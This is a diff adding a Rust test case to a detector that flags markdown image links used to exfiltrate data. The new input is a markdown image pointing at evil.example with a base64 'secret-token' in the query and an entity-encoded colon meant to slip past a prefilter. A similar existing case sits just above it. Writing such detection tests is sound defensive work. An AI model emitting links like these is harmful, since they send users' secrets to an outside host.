@@ -2967,6 +2967,12 @@ fn links_written_the_ways_renderers_read_them_are_found() {
         "![x](https:/evil.example/?q=c2VjcmV0LXRva2Vu \"http://a\")",
         "exfiltration.markdown-url",
     );
+    // An encoded scheme before a title's literal one: the prefilter reads
+    // from the first, so the data in the query is seen.
+    hits(
+        "![x](https&#58;//evil.example/?q=c2VjcmV0LXRva2Vu \"http://b\")",
+        "exfiltration.markdown-url",
+    );
     for text in [
         "See [the docs](https://docs.rs/regex/latest/regex/) and <https://example.com/>.",
         "Tom &amp; Jerry at [the site](https://example.com/tom-and-jerry).",
